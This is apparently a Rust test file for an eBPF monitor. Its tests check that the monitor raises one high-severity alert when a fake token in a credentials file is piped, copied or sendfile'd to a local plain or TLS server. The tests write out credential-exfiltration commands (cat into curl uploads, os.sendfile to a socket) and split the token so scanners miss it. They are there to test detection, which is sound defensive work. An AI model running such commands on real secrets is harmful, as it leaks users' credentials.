//! A secret that is read from a file by one program and sent by another, plain and by TLS: one alert, with its evidence (root).

use crate::run::{Dir, watch_by_ebpf};
use serde_json::Value;
use std::process::Command;

/// In two parts, so that no scanner finds a token here.
const TOKEN: [&str; 2] = ["ghp_", "0a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R"];

/// A server that takes one request, outside of what is watched: prints its port, then reads. With a file it speaks TLS.
const SERVE: &str = r#"
import socket, ssl, sys
listener = socket.create_server(("127.0.0.1", 0))
print(listener.getsockname()[1], flush=True)
side = listener.accept()[0]
if len(sys.argv) > 1:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[1])
    side = context.wrap_socket(side, server_side=True)
data = b""
while b"0\r\n\r\n" not in data and b"Q7R" not in data.upper():
    data += side.recv(65536)
side.sendall(b"HTTP/1.1 204 No\r\nConnection: close\r\n\r\n")
"#;

/// What puts the file through a pipe into curl.
const BY_PIPE: &str = "cat KEY | curl CURL --data-binary @- URL";

/// Runs a command for a shell under `watch`, which sends `KEY` to `URL`; its records, or `None`, said aloud, where that is not possible.
fn watch(dir: &Dir, certificate: Option<&str>, command: &str) -> Option<(Vec<Value>, String)> {
    if !Command::new("curl").arg("--version").output().is_ok_and(|output| output.status.success()) {
        eprintln!("skipped: no curl");
        return None;
    }
    let mut serve = Command::new("python3");
    serve.args(["-c", SERVE]).args(certificate).stdout(std::process::Stdio::piped());
    let mut server = serve.spawn().expect("python3 runs");
    let mut port = String::new();
    let mut lines = std::io::BufReader::new(server.stdout.take().expect("piped"));
    std::io::BufRead::read_line(&mut lines, &mut port).expect("a port");
    let scheme = if certificate.is_some() { "https" } else { "http" };
    let key = dir.text("credentials");
    let secret = TOKEN.concat();
    std::fs::write(&key, format!("[default]\ntoken = {secret}\n")).expect("write the file");
    let url = format!("{scheme}://127.0.0.1:{}/", port.trim());
    let command = command.replace("CURL", "-sk --max-time 20").replace("KEY", &key).replace("URL", &url);
    let watched = watch_by_ebpf(dir, &["--rules", "builtin"], &["sh", "-c", &command]);
    if watched.is_none() {
        server.kill().expect("the server is ours");
    }
    server.wait().expect("the server ends");
    watched.map(|(_, records)| (records, port.trim().to_owned()))
}

/// Holds the one alert against the records that it names.
fn check(records: &[Value], port: &str, source: &str) {
    let text = serde_json::to_string(records).expect("text");
    assert!(!text.contains(&TOKEN[1][..12]), "the secret is nowhere");
    let alerts: Vec<&Value> = records.iter().filter(|record| record["kind"] == "alert").collect();
    let [alert] = alerts[..] else { panic!("one alert: {alerts:#?}") };
    assert_eq!((&alert["rule"], &alert["severity"]), (&"secret_sent".into(), &"high".into()));
    let message = alert["message"].as_str().expect("text");
    assert!(
        message.contains("/credentials by cat (")
            && message.contains(&format!("to 127.0.0.1:{port} by curl (")),
        "{message}"
    );
    let evidence: Vec<&Value> = alert["evidence"]
        .as_array()
        .expect("a list")
        .iter()
        .map(|seq| records.iter().find(|record| record["seq"] == *seq).expect("a record of this run"))
        .collect();
    let finds: Vec<(&str, &str)> = evidence
        .iter()
        .filter(|record| record["kind"] == "content_match")
        .map(|one| (one["source"].as_str().expect("text"), one["proc"]["comm"].as_str().expect("text")))
        .collect();
    assert_eq!(finds, [("file_read", "cat"), ("file_write", "cat"), ("file_read", "curl"), (source, "curl")]);
    let forks = evidence.iter().filter(|record| record["kind"] == "process_fork").count();
    assert_eq!((forks, evidence.len()), (2, 6), "{evidence:#?}");
    assert_eq!(records.last().expect("the ledger")["closes"], true);
}

#[test]
fn from_a_file_through_a_pipe_to_a_host() {
    let dir = Dir::new("chain-plain");
    let Some((records, port)) = watch(&dir, None, BY_PIPE) else { return };
    check(&records, &port, "net_send");
}

#[test]
fn from_a_file_through_a_pipe_and_tls_to_a_host() {
    let dir = Dir::new("chain-tls");
    let Some(certificate) = crate::tls::certificate(&dir) else { return };
    let Some((records, port)) = watch(&dir, Some(&certificate), BY_PIPE) else { return };
    check(&records, &port, "tls");
}

/// Gives the file to a socket without reading it.
const BY_SENDFILE: &str = r#"python3 -c "
import os, socket, urllib.parse
to = socket.create_connection(('127.0.0.1', urllib.parse.urlsplit('URL').port))
os.sendfile(to.fileno(), os.open('KEY', os.O_RDONLY), 0, 4096)
to.recv(100)
""#;

#[test]
fn copies_that_the_kernel_makes_are_on_the_way_to_a_host() {
    let by_copy = "cp KEY KEY.1; cat KEY.1 > KEY.2; mv KEY.2 KEY.3; curl CURL --data-binary @KEY.3 URL";
    for (name, command, who) in [("copy", by_copy, ["cp", "curl"]), ("sendfile", BY_SENDFILE, ["python3"; 2])]
    {
        let dir = Dir::new(&format!("chain-{name}"));
        let Some((records, port)) = watch(&dir, None, command) else { return };
        let text = serde_json::to_string(&records).expect("text");
        assert!(!text.contains(&TOKEN[1][..12]), "the secret is nowhere");
        let alerts: Vec<&Value> = records.iter().filter(|record| record["kind"] == "alert").collect();
        let [alert] = alerts[..] else { panic!("one alert: {alerts:#?}") };
        let message = alert["message"].as_str().expect("text");
        let [reader, sender] = who;
        assert!(message.contains(&format!("/credentials by {reader}")), "{message}");
        assert!(message.contains(&format!("to 127.0.0.1:{port} by {sender}")), "{message}");
        let finds: Vec<(&str, &str)> = records
            .iter()
            .filter(|record| alert["evidence"].as_array().expect("a list").contains(&record["seq"]))
            .filter(|record| record["kind"] == "content_match")
            .map(|one| (one["source"].as_str().expect("text"), one["proc"]["comm"].as_str().expect("text")))
            .collect();
        let by_sendfile = [("file_read", "python3"), ("net_send", "python3")];
        let by_copy = [
            ("file_read", "cp"),
            ("file_write", "cp"),
            ("file_write", "cat"),
            ("file_read", "curl"),
            ("net_send", "curl"),
        ];
        assert_eq!(finds, if name == "copy" { &by_copy[..] } else { &by_sendfile });
        assert_eq!(records.last().expect("the ledger")["closes"], true);
    }
}
